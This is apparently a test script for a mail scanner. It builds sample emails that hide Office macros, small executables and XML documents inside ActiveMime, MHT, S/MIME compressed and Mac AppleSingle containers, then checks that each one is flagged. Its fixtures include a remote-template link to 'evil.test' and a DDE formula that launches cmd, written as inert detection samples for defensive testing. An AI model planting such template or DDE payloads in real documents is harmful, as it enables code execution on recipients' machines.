#!/bin/bash
# What Office and mail programs open, the check opens: documents that are web pages, also such that are a PDF, or XML; compressed
# messages; files of a Mac.
set -eu
. "$(dirname "$0")/lib/tap.sh"
. "$(dirname "$0")/lib/mailscanner.sh"

status_of() { # name of a message
	local status=0
	ms check "$scratch/mail/$1.eml" >"$scratch/said" 2>"$scratch/errors" || status=$?
	echo "$status"
}
shows() { # expression
	grep -aq -e "$1" "$scratch/said"
}
found() { # name of a message, expression, what is shown by it
	is "$3" "$(status_of "$1")" 1
	ok "and why is said" shows "$2"
}

mkdir -p "$scratch/mail"
ms_config
"$python" - "$scratch/mail" <<'END'
import base64, io, struct, sys, zipfile, zlib

END, NONE = 0xfffffffe, 0xffffffff
def entry(name, kind, right, child):
    text = name.encode("utf-16-le")
    return (text.ljust(64, b"\0") + struct.pack("<HBBIII", len(text) + 2, kind, 1, NONE, right, child)).ljust(116, b"\0") \
        + struct.pack("<III", END, 0, 0)
def ole(storage):
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(24, b"\0") + struct.pack("<HHHHH", 0x3e, 3, 0xfffe, 9, 6)
    head = head.ljust(44, b"\0") + struct.pack("<IIIIIIIII", 1, 1, 0, 4096, END, 0, END, 0, 0)
    fat = struct.pack("<II", 0xfffffffd, END)
    directory = entry("Root Entry", 5, NONE, 1) + entry(storage, 1, NONE, NONE)
    return head.ljust(512, b"\xff") + fat.ljust(512, b"\xff") + directory.ljust(512, b"\0")
def active(content):
    return b"ActiveMime\0\0\1\xf0\4\0\0\0\xff\xff\xff\xff".ljust(30, b"\0") + struct.pack("<I12xI", 4, len(content)) + zlib.compress(content)
def mht(part):
    return b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"x\"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n" \
        b"<p>hello</p>\r\n--x\r\nContent-Location: file:///C:/editdata.mso\r\nContent-Type: application/x-mso\r\n" \
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(part) + b"\r\n--x--\r\n"
def put(message, name, content, kind="application/octet-stream"):
    with open(f"{sys.argv[1]}/{message}.eml", "wb") as file:
        file.write(b"From: alice@sender.test\nTo: bob@example.test\nMIME-Version: 1.0\n")
        file.write(f"Content-Type: {kind}; name={name}\nContent-Transfer-Encoding: base64\n\n".encode())
        file.write(base64.encodebytes(content))
def packed(name, content):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(name, content)
    return file.getvalue()

macros, none = active(ole("Macros")), active(ole("Nothing"))
put("mso", "editdata.mso", macros)
put("mso-cut", "editdata.mso", macros[:-40])
put("web", "letter.mht", mht(macros))
put("web-none", "letter.doc", mht(none))
put("web-doc", "letter.doc", mht(macros), "application/msword")
put("web-zip", "letter.zip", packed("letter.doc", mht(macros)), "application/zip")
put("web-pdf", "letter.doc", b"%PDF-1.7\n1 0 obj\n<</Type /Catalog>>\nendobj\n%%EOF\n" + mht(macros), "application/pdf")

def der(tag, *content):
    return bytes([tag, 0x84]) + struct.pack(">I", len(b"".join(content))) + b"".join(content)
def compressed(content):
    oids = [der(6, bytes.fromhex("2a864886f70d01" + last)) for last in ("0910" + "0109", "0910" + "0308", "0701")]
    data = der(0x30, oids[2], der(0xa0, der(4, zlib.compress(content))))
    return der(0x30, oids[0], der(0xa0, der(0x30, der(2, b"\0"), der(0x30, oids[1]), data)))
program = b"Content-Type: application/octet-stream; name=setup.exe\n\nMZ"
put("cms", "smime.p7z", compressed(program), "application/pkcs7-mime; smime-type=compressed-data")
put("cms-none", "smime.p7z", compressed(b"Content-Type: text/plain\n\nhello\n"), "application/pkcs7-mime")
put("cms-cut", "smime.p7z", compressed(program)[:-20], "application/pkcs7-mime")

def apple(*entries): # kind and content
    at, table, content = 26 + 12 * len(entries), b"", b""
    for kind, part in entries:
        table += struct.pack(">III", kind, at + len(content), len(part))
        content += part
    return b"\0\5\x16\0\0\2\0\0".ljust(24, b"\0") + struct.pack(">H", len(entries)) + table + content
put("apple", "letter.bin", apple((3, b"setup.exe"), (1, b"MZ")))
put("apple-none", "letter.txt", apple((3, b"letter.txt"), (1, b"hello")), "application/applefile")
put("apple-cut", "letter.txt", apple((3, b"letter.txt"), (1, b"hello"))[:-2], "application/applefile")

def word(content):
    return b"<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\">" + content + b"</w:wordDocument>"
def package(path, content):
    return b"<pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\"><pkg:part pkg:name=\"" + path + \
        b"\">" + content + b"</pkg:part></pkg:package>"
template = b"<pkg:xmlData><Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" " \
    b"Target=\"http://evil.test/x.dotm\" TargetMode=\"External\"/></pkg:xmlData>"
put("xml", "letter.doc", word(b"<w:binData w:name=\"editdata.mso\">" + base64.encodebytes(macros) + b"</w:binData>"))
put("xml-none", "letter.xml", word(b"<w:body><w:t>hello</w:t></w:body>"), "text/xml")
put("xml-cut", "letter.xml", word(b"<w:binData>")[:-18], "text/xml")
put("package", "letter.xml", package(b"/word/vbaProject.bin", b"<pkg:binaryData>" + base64.encodebytes(ole("VBA")) + b"</pkg:binaryData>"))
put("package-none", "letter.xml", package(b"/word/document.xml", b"<pkg:xmlData><w:t>hello</w:t></pkg:xmlData>"))
put("package-template", "letter.xml", package(b"/word/_rels/settings.xml.rels", template))
put("sheet", "table.xml", b"<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"><Cell Formula=\"=cmd|'/c calc'!A0\"/></Workbook>")
END

macros="Office file with macros\|Macros in Office files"
found mso "$macros" "macros in ActiveMime are found"
found mso-cut "could not\|unreadable" "ActiveMime that is cut could not be opened"
found web "$macros" "macros in a web page are found"
is "a web page without is clean" "$(status_of web-none)" 0
found web-doc "$macros" "whatever it is called"
found web-zip "$macros" "in an archive, too"
found web-pdf "$macros" "and behind a PDF"
found cms "setup.exe" "a program in a compressed message is found"
is "one with a text is clean" "$(status_of cms-none)" 0
found cms-cut "could not be opened" "one that is cut could not be opened"
found apple "setup.exe" "a program in a file of a Mac is found"
is "one with a text is clean" "$(status_of apple-none)" 0
found apple-cut "could not be opened" "one that is cut could not be opened"
found xml "$macros" "macros in a document of Word's that is XML are found"
is "one with a text is clean" "$(status_of xml-none)" 0
found xml-cut "could not be opened" "one that is cut could not be opened"
found package "$macros" "macros in a package that is XML are found"
is "one with a text is clean" "$(status_of package-none)" 0
found package-template "loads another\|loads a template\|from elsewhere" "a template from elsewhere is found"
found sheet "DDE link\|start programs" "a DDE link in a table is found"
finish
